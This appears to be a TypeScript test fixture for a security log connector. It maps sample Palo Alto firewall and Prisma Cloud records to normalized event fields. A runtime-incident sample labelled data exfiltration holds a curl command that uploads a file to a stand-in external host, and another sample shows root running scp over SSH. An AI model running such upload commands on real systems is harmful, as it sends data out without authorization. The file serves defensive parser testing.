import type { ConnectorCase } from '../kit/connector-case.ts';

const REFERENCE = 'Strata Logging Service: Log reference';
const SYSLOG = 'PAN-OS: Syslog field descriptions';
const CLOUD = 'Prisma Cloud API: Alerts v2';
const AUDIT = 'Prisma Cloud API: Audit logs';
const AT = Date.UTC(2026, 2, 2, 9, 30);

function json(type: string, subtype: string, rest: Record<string, unknown>) {
  return {
    TimeReceived: '2026-03-02T09:30:07.000000Z',
    TimeGenerated: '2026-03-02T09:30:00.000000Z',
    DeviceSN: '0011',
    DeviceName: 'fw1',
    LogType: type,
    Subtype: subtype,
    SequenceNo: '701',
    SourceAddress: '10.20.0.5',
    DestinationAddress: '203.0.113.9',
    SourceUser: 'corp\\ann',
    Rule: 'web out',
    ...rest,
  };
}

function cef(type: string, name: string, extension: string): string {
  return (
    '2536 <14>1 2026-03-02T09:30:07.000Z h logforwarder - panwlogs - ' +
    `CEF:0|Palo Alto Networks|LF|2.0|${type}|${name}|3|dtz=UTC rt=Mar 02 2026 09:30:07 ` +
    `start=Mar 02 2026 09:30:00 deviceExternalId=0011 dvchost=fw1 externalId=701 ${extension}`
  );
}

function csv(type: string, subtype: string, rest: string): string {
  return `<14>Mar  2 09:30:07 fw1 1,2026/03/02 09:30:07,0011,${type},${subtype},2562,2026/03/02 09:30:00,${rest}`;
}

const SESSION =
  '10.20.0.5,203.0.113.9,0.0.0.0,0.0.0.0,web out,corp\\ann,,dropbox-uploading,vsys1,trust,untrust,' +
  'ethernet1/1,ethernet1/2,log,2026/03/02 09:30:00,17,1,50000,443,0,0,0x0,tcp';

const HOST = {
  _id: 'build-7',
  accountID: '111122223333',
  created: '2026-03-02T09:30:00Z',
};

export const cases: readonly ConnectorCase[] = [
  {
    operation: 'THREAT file: upload (JSON)',
    source: REFERENCE,
    record: json('THREAT', 'file', {
      Action: 'alert',
      FileName: 'plan.xlsx',
      FileHash: 'AB12'.padEnd(64, '0').padEnd(64, '0'),
      DirectionOfAttack: 'client to server',
      Application: 'dropbox-uploading',
      SourceUser: 'Ann@example.com',
      SourceDeviceHost: 'lt-ann',
    }),
    expect: {
      vendorOperation: 'alert',
      action: 'Upload',
      movement: 'upload',
      occurredAt: AT,
      outcome: 'success',
      'object.kind': 'file',
      'object.name': 'plan.xlsx',
      'object.sha256': 'ab12'.padEnd(64, '0'),
      'origin.name': 'Device',
      'destination.name': 'Dropbox',
      'actor.email': 'ann@example.com',
      'actor.name': 'Ann',
      'device.hostname': 'lt-ann',
      vendorRule: 'web out',
      vendorEventId: '701',
    },
  },
  {
    operation: 'THREAT wildfire: download blocked (JSON)',
    source: REFERENCE,
    record: json('THREAT', 'wildfire', {
      Action: 'block',
      FileName: 'setup.exe',
      DirectionOfAttack: 'server to client',
      Application: 'web-browsing',
    }),
    expect: {
      action: 'Download',
      outcome: 'failure',
      'origin.name': 'Internet',
      'origin.host': '203.0.113.9',
      'destination.name': 'Device',
      'device.hostname': null,
    },
  },
  {
    operation: 'THREAT file (CEF)',
    source: 'Strata Logging Service: File CEF fields',
    record: cef(
      'THREAT',
      'file',
      'src=10.20.0.5 dst=203.0.113.9 suser=corp\\\\ann cs1=web out cs1Label=Rule act=alert ' +
        `filePath=Q1 plan.xlsx PanOSFileHash=${'AB12'.padEnd(64, '0')} ` +
        'flexString2=client to server ' +
        'flexString2Label=DirectionOfAttack app=gmail-base PanOSCortexDataLakeTenantID=T1',
    ),
    expect: {
      action: 'Upload',
      occurredAt: AT,
      'object.name': 'Q1 plan.xlsx',
      'destination.name': 'Gmail',
      'actor.name': 'ann',
      'actor.domain': 'corp',
      vendorSeverity: '3',
      vendorRule: 'web out',
      cloudAccount: 'T1',
    },
  },
  {
    operation: 'THREAT url (CEF)',
    source: 'Strata Logging Service: URL CEF fields',
    record: cef(
      'THREAT',
      'url',
      'src=10.20.0.5 request=https://a.example/x?y=1&z=2 act=block-url requestClientApplication=curl/8 ' +
        'PanOSURLDomain=a.example duser=ben',
    ),
    expect: {
      action: null,
      movement: 'none',
      outcome: 'failure',
      'object.url': 'https://a.example/x?y=1&z=2',
      'network.userAgent': 'curl/8',
      'network.destinationDomain': 'a.example',
      destinationUser: 'ben',
    },
  },
  {
    operation: 'THREAT file (LEEF)',
    source: 'Strata Logging Service: File LEEF fields',
    record:
      'LEEF:2.0|Palo Alto Networks|Next Generation Firewall|10.1|17657||' +
      'devTime=2026-03-02T09:30:00.000000Z\tcat=threat\tSubType=file\tsrc=10.20.0.5\tusrName=corp\\ann\t' +
      'Action=alert\tFileName=plan.xlsx\tDirectionOfAttack=server to client\tRule=web out',
    expect: { action: 'Download', 'object.name': 'plan.xlsx', 'actor.name': 'ann', occurredAt: AT },
  },
  {
    operation: 'THREAT file (CSV)',
    source: SYSLOG,
    record: csv(
      'THREAT',
      'file',
      `${SESSION},alert,"plan, final.xlsx",Excel(52060),computer,low,client-to-server,702,0x0,EU,US,,,0,,,1`,
    ),
    expect: {
      action: 'Upload',
      'object.name': 'plan, final.xlsx',
      'destination.name': 'Dropbox',
      vendorSeverity: 'low',
      vendorEventId: '702',
    },
  },
  {
    operation: 'THREAT vulnerability (JSON)',
    source: REFERENCE,
    record: json('THREAT', 'vulnerability', {
      Action: 'reset-both',
      ThreatID: 'SSH brute force(40015)',
      DirectionOfAttack: 'client to server',
    }),
    expect: { action: null, outcome: 'failure', 'extra.threat': 'SSH brute force(40015)' },
  },
  {
    operation: 'TRAFFIC end (CSV)',
    source: SYSLOG,
    record: csv(
      'TRAFFIC',
      'end',
      `${SESSION},allow,5773,758,5015,14,2026/03/02 09:29:00,60,any,,703,0x0,EU,US,,7,7,tcp-fin`,
    ),
    expect: {
      vendorOperation: 'allow',
      action: null,
      outcome: 'success',
      'actor.name': 'ann',
      'actor.domain': 'corp',
      'network.sourceIp': '10.20.0.5',
      'network.destinationIp': '203.0.113.9',
      'extra.bytesSent': '758',
    },
  },
  {
    operation: 'TRAFFIC deny (JSON)',
    source: REFERENCE,
    record: json('TRAFFIC', 'deny', { Action: 'deny', BytesSent: 74 }),
    expect: { vendorOperation: 'deny', outcome: 'failure', 'device.hostname': 'fw1' },
  },
  {
    operation: 'DECRYPTION (JSON)',
    source: REFERENCE,
    record: json('DECRYPTION', 'start', {
      Action: 'allow',
      ServerNameIndication: 'cdn.example.net',
    }),
    expect: { 'network.destinationDomain': 'cdn.example.net', outcome: 'success' },
  },
  {
    operation: 'GLOBALPROTECT (CSV)',
    source: SYSLOG,
    record: csv(
      'GLOBALPROTECT',
      '0',
      'vsys1,gateway-auth,login,Other,,corp\\ann,FR,LT-ANN,198.51.100.4,0.0.0.0,0.0.0.0,0.0.0.0,HOST1,SN1,' +
        '6.0,Windows,"Windows 11 , 64-bit",1,,,"",success,,0,,0,gw1,704,0x0,2026-03-02T10:30:00.250+01:00',
    ),
    expect: {
      vendorOperation: 'gateway-auth',
      occurredAt: AT + 250,
      outcome: 'success',
      'actor.name': 'ann',
      'device.hostname': 'LT-ANN',
      'device.id': 'HOST1',
      'device.os': 'Windows',
      'network.sourceIp': '198.51.100.4',
    },
  },
  {
    operation: 'HIPMATCH (JSON)',
    source: REFERENCE,
    record: json('HIPMATCH', 'hipmatch', {
      SourceUser: 'ann@example.com',
      EndpointDeviceName: 'LT-ANN',
      HostID: 'HOST1',
      HipMatchName: 'Compliant',
      Rule: undefined,
    }),
    expect: { vendorOperation: 'HIPMATCH hipmatch', vendorRule: 'Compliant', 'device.id': 'HOST1' },
  },
  {
    operation: 'SYSTEM auth-success (CSV)',
    source: SYSLOG,
    record: csv(
      'SYSTEM',
      'auth',
      ',auth-success,GP,0,0,general,informational,"authenticated for user \'ann\'.  From: 198.51.100.4.",705,0x0,0,0,0,0,,fw1',
    ),
    expect: {
      vendorOperation: 'auth-success',
      outcome: 'success',
      'actor.name': 'ann',
      'network.sourceIp': '198.51.100.4',
      'device.hostname': 'fw1',
    },
  },
  {
    operation: 'USERID logout (CEF)',
    source: 'Strata Logging Service: User-ID CEF fields',
    record: cef('USERID', 'logout', 'src=10.20.0.5 duser=ann dntdom=corp'),
    expect: { vendorOperation: 'USERID logout', outcome: 'success', destinationUser: 'ann' },
  },
  {
    operation: 'AUTH (CEF)',
    source: 'Strata Logging Service: Authentication CEF fields',
    record: cef(
      'AUTH',
      'Radius',
      'PanOSAuthenticatedUserDomain=corp PanOSAuthenticatedUserName=ann PanOSAuthenticatedUserUUID=U1 ' +
        'msg=Invalid credentials c6a2=2001:db8::5 c6a2Label=Source IPv6 Address',
    ),
    expect: {
      outcome: 'failure',
      'actor.name': 'ann',
      'actor.id': 'U1',
      'actor.domain': 'corp',
      'network.sourceIp': '2001:db8::5',
    },
  },
  {
    operation: 'CONFIG (CEF)',
    source: 'Strata Logging Service: Configuration CEF fields',
    record: cef('CONFIG', 'config', 'act=commit-all duser0=root-admin src=10.20.0.9'),
    expect: { vendorOperation: 'commit-all', 'actor.name': 'root-admin', 'object.kind': 'setting' },
  },
  {
    operation: 'A line of another kind',
    source: SYSLOG,
    record: 'hello',
    expect: { rejected: 'The line is no CEF, LEEF or PAN-OS log entry.' },
  },
  {
    operation: 'Alert of Prisma Cloud',
    source: CLOUD,
    record: {
      id: 'P-1',
      status: 'open',
      alertTime: AT,
      lastUpdated: AT + 5000,
      policy: { policyId: 'p', name: 'Public bucket', severity: 'high', policyType: 'data' },
      resource: {
        rrn: 'rrn:aws:bucket:1',
        name: 'reports',
        resourceType: 'BUCKET',
        accountId: '111122223333',
        regionId: 'eu-west-1',
        url: 'https://console.example/reports',
      },
    },
    expect: {
      vendorOperation: 'alert open',
      stream: 'alerts',
      occurredAt: AT,
      vendorEventId: 'P-1',
      vendorRule: 'Public bucket',
      vendorSeverity: 'high',
      'object.kind': 'bucket',
      'object.url': 'https://console.example/reports',
      cloudAccount: '111122223333',
      cloudRegion: 'eu-west-1',
    },
  },
  {
    operation: 'Audit log LOGIN',
    source: AUDIT,
    record: {
      timestamp: AT,
      user: 'ann@example.com',
      ipAddress: '198.51.100.4',
      actionType: 'LOGIN',
      resourceType: 'Login',
      resourceName: 'ann@example.com',
      result: 'fail',
    },
    expect: {
      vendorOperation: 'LOGIN',
      outcome: 'failure',
      'actor.email': 'ann@example.com',
      'actor.name': 'ann',
      'network.sourceIp': '198.51.100.4',
    },
  },
  {
    operation: 'Audit log DOWNLOAD',
    source: AUDIT,
    record: { timestamp: AT, user: 'ann@example.com', actionType: 'DOWNLOAD', result: 'success' },
    expect: { action: 'Download', movement: 'download', outcome: 'success' },
  },
  {
    operation: 'Host profile',
    source: 'Prisma Cloud Compute API: Profiles, host',
    record: {
      ...HOST,
      apps: [
        {
          name: 'sync',
          startupProcess: {
            user: 'ann',
            path: '/opt/sync/sync',
            command: '/opt/sync/sync -d',
            ppath: '/usr/bin/bash',
            time: '2026-03-02T09:30:00Z',
          },
        },
      ],
      sshEvents: [
        {
          user: 'root',
          ip: '203.0.113.9',
          command: 'scp a b:',
          path: '/usr/bin/scp',
          time: '2026-03-02T09:31:00Z',
        },
      ],
    },
    expect: {
      vendorOperation: 'startupProcess',
      action: 'CLI',
      'process.name': 'sync',
      'process.parent': 'bash',
      'process.commandLine': '/opt/sync/sync -d',
      'device.hostname': 'build-7',
      cloudAccount: '111122223333',
    },
    count: 2,
  },
  {
    operation: 'Host profile without acts',
    source: 'Prisma Cloud Compute API: Profiles, host',
    record: { ...HOST, apps: [] },
    expect: { skipped: 'The profile lists neither applications nor remote commands.' },
  },
  {
    operation: 'Runtime incident',
    source: 'Prisma Cloud Compute API: Audits, incidents',
    record: {
      _id: 'R1',
      category: 'dataExfiltration',
      time: '2026-03-02T09:30:00Z',
      hostname: 'build-7',
      accountID: '111122223333',
      audits: [
        {
          time: '2026-03-02T09:30:00Z',
          attackType: 'suspiciousUpload',
          effect: 'alert',
          user: 'root',
          processPath: '/usr/bin/curl',
          command: 'curl -T a https://x.example',
        },
      ],
    },
    expect: {
      vendorOperation: 'suspiciousUpload',
      stream: 'incidents',
      'process.name': 'curl',
      'device.hostname': 'build-7',
    },
  },
  {
    operation: 'Host',
    source: 'Prisma Cloud Compute API: Hosts',
    record: {
      _id: 'build-7',
      hostname: 'build-7',
      osDistro: 'ubuntu',
      scanTime: '2026-03-02T09:30:00Z',
    },
    expect: { kind: 'device', hostname: 'build-7', os: 'ubuntu' },
  },
];
